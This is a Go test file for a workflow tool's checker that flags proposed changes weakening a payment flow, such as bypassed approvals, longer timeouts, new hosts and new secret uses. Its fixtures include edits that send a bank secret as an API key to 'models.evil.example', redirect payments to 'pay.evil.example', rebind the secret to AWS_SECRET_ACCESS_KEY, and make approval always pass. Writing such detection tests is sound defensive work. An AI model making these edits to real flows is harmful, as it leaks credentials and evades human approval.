package thinker

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/flowctl/flowctl/compiler"
	"github.com/flowctl/flowctl/lang"
	"github.com/flowctl/flowctl/runtime/state"
)

// payFlow is the flow the weakening tests change: a payment that waits
// for an approval, with timeouts, hosts and a secret.
const payFlow = `flow "pay" {
  timeout = "15m"
}

secret "bank" {}

input "amount" {
  type    = number
  default = 10
}

locals {
  bank_url = "https://bank.example.com/v1"
}

step "quote" {
  use     = "http"
  url     = "${local.bank_url}/quote?amount=${input.amount}"
  timeout = "30s"
}

step "review" {
  use     = "approval"
  message = "Pay ${input.amount}?"
  timeout = "48h"
}

step "pay" {
  use        = "http"
  method     = "POST"
  url        = "https://bank.example.com/v1/pay"
  headers    = { Authorization = "Bearer ${secret.bank}" }
  when       = step.review.approved
  depends_on = [step.quote]
}

step "receipt" {
  use        = "value"
  value      = "paid"
  depends_on = [step.pay]
}
`

// compileFlow compiles src as dir/pay.flow.hcl.
func compileFlow(t *testing.T, dir, src string) *compiler.Program {
	t.Helper()
	path := filepath.Join(dir, "pay.flow.hcl")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	prog, diags := compiler.Compile(path, compiler.Options{Parser: lang.NewParser(), SkipCode: true})
	if diags.HasErrors() {
		t.Fatalf("compiling:\n%s\n%s", diags.Error(), src)
	}
	return prog
}

// weakened compares payFlow with payFlow changed by each old→new pair.
func weakened(t *testing.T, edits ...string) []state.Weakening {
	t.Helper()
	next := payFlow
	for i := 0; i < len(edits); i += 2 {
		if !strings.Contains(next, edits[i]) {
			t.Fatalf("the flow has no %q", edits[i])
		}
		next = strings.Replace(next, edits[i], edits[i+1], 1)
	}
	dir := t.TempDir()
	return Weakenings("pay.flow.hcl", compileFlow(t, filepath.Join(dir, "base"), payFlow), compileFlow(t, filepath.Join(dir, "next"), next))
}

// weakenedAs checks the kinds, subjects and message fragments found.
func weakenedAs(t *testing.T, got []state.Weakening, want ...[3]string) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%d weakenings, want %d: %+v", len(got), len(want), got)
	}
	for i, w := range want {
		g := got[i]
		if g.Kind != w[0] || g.Subject != w[1] || !strings.Contains(g.Message, w[2]) || g.Flow != "pay.flow.hcl" {
			t.Errorf("weakening %d = %+v, want kind %s, subject %s, a message with %q", i, g, w[0], w[1], w[2])
		}
	}
}

func TestWeakeningsNone(t *testing.T) {
	// A change that loosens nothing: a new message, a shorter timeout, a
	// stricter approval (no when), a new step that uses no secret.
	weakenedAs(t, weakened(t,
		`message = "Pay ${input.amount}?"`, `message = "Pay ${input.amount} now?"`,
		`timeout = "48h"`, `timeout = "1h"`,
		`step "receipt" {`, "step \"note\" {\n  use   = \"value\"\n  value = \"n\"\n}\n\nstep \"receipt\" {",
	))
	// An http step's timeout removed that was longer than the default
	// of a request (60s) makes it shorter.
	dir := t.TempDir()
	long := strings.Replace(payFlow, `timeout = "30s"`, `timeout = "2m"`, 1)
	none := strings.Replace(payFlow, "  timeout = \"30s\"\n", "", 1)
	if got := Weakenings("pay.flow.hcl", compileFlow(t, filepath.Join(dir, "a"), long), compileFlow(t, filepath.Join(dir, "b"), none)); len(got) != 0 {
		t.Errorf("a 2m http timeout removed: %+v", got)
	}
}

func TestWeakeningsApproval(t *testing.T) {
	// Removed: the step, and the when that checked it.
	weakenedAs(t, weakened(t,
		"step \"review\" {\n  use     = \"approval\"\n  message = \"Pay ${input.amount}?\"\n  timeout = \"48h\"\n}\n", "",
		"  when       = step.review.approved\n", ""),
		[3]string{WeakApproval, `step "review"`, `The approval step "review" is removed.`})
	// Another block in its place.
	weakenedAs(t, weakened(t, "use     = \"approval\"\n  message = \"Pay ${input.amount}?\"", "use     = \"value\"\n  value = true",
		"when       = step.review.approved", "when       = step.review.value"),
		[3]string{WeakApproval, `step "review"`, `no longer asks anyone: it uses "value"`})
	// Still there, but pay (and so receipt) no longer waits for it.
	weakenedAs(t, weakened(t, "  when       = step.review.approved\n", ""),
		[3]string{WeakApproval, `step "pay"`, `Step "pay" no longer waits for the approval step "review".`},
		[3]string{WeakApproval, `step "receipt"`, `Step "receipt" no longer waits`})
	// A rejection goes on.
	weakenedAs(t, weakened(t, `timeout = "48h"`, "timeout = \"48h\"\n  on_error = \"continue\""),
		[3]string{WeakApproval, `step "review"`, `no longer stops the steps after it`})
}

func TestWeakeningsWhen(t *testing.T) {
	weakenedAs(t, weakened(t, `timeout = "48h"`, "timeout = \"48h\"\n  when = input.amount > 100"),
		[3]string{WeakWhen, `step "review"`, `gets a when (input.amount > 100): it asks nobody when that does not hold`})
	weakenedAs(t, weakened(t, `timeout = "48h"`, "timeout = \"48h\"\n  for_each = toset([])", "  when       = step.review.approved\n", "", "[step.quote]", "[step.quote, step.review]"),
		[3]string{WeakWhen, `step "review"`, `gets a for_each (toset([]))`},
		[3]string{WeakWhen, `step "pay"`, `which checked the approval "review", is removed`})
	// The when of pay checked the approval; pay still waits for it.
	weakenedAs(t, weakened(t, "when       = step.review.approved", "when       = step.review.approved || true"),
		[3]string{WeakWhen, `step "pay"`, `changes from step.review.approved to step.review.approved || true`})
	weakenedAs(t, weakened(t, "when       = step.review.approved", "when       = true", "[step.quote]", "[step.quote, step.review]"),
		[3]string{WeakWhen, `step "pay"`, `which checked the approval "review", changes`})
}

func TestWeakeningsTimeout(t *testing.T) {
	weakenedAs(t, weakened(t, "flow \"pay\" {\n  timeout = \"15m\"\n}", `flow "pay" {}`),
		[3]string{WeakTimeout, `flow "pay"`, `The timeout of the flow (15m0s) is removed`})
	weakenedAs(t, weakened(t, `timeout = "48h"`, `timeout = "480h"`),
		[3]string{WeakTimeout, `step "review"`, `goes from 48h0m0s to 480h0m0s`})
	// An http step without a timeout of its own has the default (60s).
	weakenedAs(t, weakened(t, "  timeout = \"30s\"\n", ""),
		[3]string{WeakTimeout, `step "quote"`, `goes from 30s to 1m0s`})
	weakenedAs(t, weakened(t, "  timeout = \"48h\"\n", ""),
		[3]string{WeakTimeout, `step "review"`, `(48h0m0s) is removed`})
}

func TestWeakeningsHTTPHosts(t *testing.T) {
	weakenedAs(t, weakened(t, `url        = "https://bank.example.com/v1/pay"`, `url        = "https://pay.evil.example:8443/v1/pay"`),
		[3]string{WeakHTTPHosts, `step "pay"`, `Step "pay" connects to pay.evil.example, which the flow did not`})
	// Through the local the url is made of.
	weakenedAs(t, weakened(t, `bank_url = "https://bank.example.com/v1"`, `bank_url = "https://10.0.0.9/v1"`),
		[3]string{WeakHTTPHosts, `step "quote"`, `connects to 10.0.0.9`})
	// Decided at run time.
	weakenedAs(t, weakened(t, `url        = "https://bank.example.com/v1/pay"`, `url        = "https://${input.amount}.example.com/pay"`),
		[3]string{WeakHTTPHosts, `step "pay"`, `may connect to any host that --http-allow lets through`})
	// Another path on a host the flow reaches is not another host.
	weakenedAs(t, weakened(t, `url        = "https://bank.example.com/v1/pay"`, `url        = "https://BANK.example.com/v2/pay/${input.amount}"`))
}

// TestWeakeningsProvider: a provider added to a flow is a new host, and
// its api_key a new use of the secret: a proposal that sends a key to
// another server says so.
func TestWeakeningsProvider(t *testing.T) {
	weakenedAs(t, weakened(t, `secret "bank" {}`, "secret \"bank\" {}\n\nprovider \"x\" {\n  base_url = \"https://models.evil.example/v1\"\n  api_key  = secret.bank\n}"),
		[3]string{WeakHTTPHosts, `provider "x"`, `connects to models.evil.example`},
		[3]string{WeakSecret, `provider "x"`, `uses secret "bank"`})
}

func TestWeakeningsSecret(t *testing.T) {
	weakenedAs(t, weakened(t, `value      = "paid"`, `value      = sha256(secret.bank)`),
		[3]string{WeakSecret, `step "receipt"`, `Step "receipt" uses secret "bank", which it did not`})
	weakenedAs(t, weakened(t, `secret "bank" {}`, "secret \"bank\" {\n  env = \"AWS_SECRET_ACCESS_KEY\"\n}"),
		[3]string{WeakSecret, `secret "bank"`, `read from AWS_SECRET_ACCESS_KEY, not FLOWCTL_SECRET_BANK`})
	// Through a local.
	weakenedAs(t, weakened(t, `bank_url = "https://bank.example.com/v1"`, "bank_url = \"https://bank.example.com/v1\"\n  key = sha256(secret.bank)",
		`value      = "paid"`, `value      = local.key`),
		[3]string{WeakSecret, `step "receipt"`, `uses secret "bank"`})
}

// TestProposalWeakenings: a proposal's flow is compiled as it is and as
// the proposal's files would make it; one that does not compile is
// unchecked; a new flow weakens nothing.
func TestProposalWeakenings(t *testing.T) {
	dir := t.TempDir()
	flow := filepath.Join(dir, "pay.flow.hcl")
	if err := os.WriteFile(flow, []byte(payFlow), 0o644); err != nil {
		t.Fatal(err)
	}
	st, err := state.Open(filepath.Join(dir, ".flowctl"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	sum := SHA256Hex([]byte(payFlow))
	proposal := func(files ...state.ProposalFile) *state.Proposal {
		return &state.Proposal{Flow: "pay", FlowFile: flow, Files: files}
	}
	noWhen := strings.Replace(payFlow, "  when       = step.review.approved\n", "", 1)
	ws, err := ProposalWeakenings(st, proposal(state.ProposalFile{Path: "pay.flow.hcl", BaseSHA256: sum, Content: noWhen}), nil)
	if err != nil || len(ws) != 2 || ws[0].Kind != WeakApproval || ws[0].Subject != `step "pay"` || ws[0].Flow != "pay.flow.hcl" {
		t.Fatalf("the when removed: %+v %v", ws, err)
	}
	// A block file written next to the flow is compiled with it.
	ws, err = ProposalWeakenings(st, proposal(state.ProposalFile{Path: "blocks/x.block.hcl", Content: "block \"x\" {\n  runtime = \"js\"\n  timeout = \"1s\"\n  source = \"function execute() { return {} }\"\n}\n"}), nil)
	if err != nil || len(ws) != 0 {
		t.Fatalf("a block added: %+v %v", ws, err)
	}
	ws, err = ProposalWeakenings(st, proposal(state.ProposalFile{Path: "pay.flow.hcl", BaseSHA256: sum, Content: "flow \"pay\" {"}), nil)
	if err != nil || len(ws) != 1 || ws[0].Kind != WeakUnchecked || !strings.Contains(ws[0].Message, "as proposed does not compile") {
		t.Fatalf("a flow that does not compile: %+v %v", ws, err)
	}
	ws, err = ProposalWeakenings(st, &state.Proposal{Flow: "new", FlowFile: filepath.Join(dir, "new.flow.hcl"),
		Files: []state.ProposalFile{{Path: "new.flow.hcl", Content: `flow "new" {}`}}}, nil)
	if err != nil || ws == nil || len(ws) != 0 {
		t.Fatalf("a new flow: %+v %v", ws, err)
	}
	if b, _ := os.ReadFile(flow); string(b) != payFlow {
		t.Error("checking a proposal changed the flow file")
	}
}

// TestProposalWeakeningsBlockFile: a proposal that changes only a block
// file is compared through the flows that use the block.
func TestProposalWeakeningsBlockFile(t *testing.T) {
	dir := t.TempDir()
	block := func(timeout string) string {
		return "block \"tick\" {\n  runtime = \"js\"\n  timeout = \"" + timeout + "\"\n  output \"n\" {\n    type = number\n  }\n  source = \"function execute() { return { n: 1 } }\"\n}\n"
	}
	os.MkdirAll(filepath.Join(dir, "blocks"), 0o755)
	os.WriteFile(filepath.Join(dir, "blocks", "tick.block.hcl"), []byte(block("5s")), 0o644)
	flow := filepath.Join(dir, "tick.flow.hcl")
	os.WriteFile(flow, []byte("flow \"tick\" {}\n\nstep \"t\" {\n  use = \"tick\"\n}\n"), 0o644)
	st, err := state.Open(filepath.Join(dir, ".flowctl"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ws, err := ProposalWeakenings(st, &state.Proposal{Flow: "tick", FlowFile: flow, Files: []state.ProposalFile{
		{Path: "blocks/tick.block.hcl", BaseSHA256: SHA256Hex([]byte(block("5s"))), Content: block("1h")}}}, nil)
	if err != nil || len(ws) != 1 || ws[0].Kind != WeakTimeout || ws[0].Subject != `step "t"` || !strings.Contains(ws[0].Message, "goes from 5s to 1h0m0s") {
		t.Fatalf("the block's timeout lengthened: %+v %v", ws, err)
	}
}
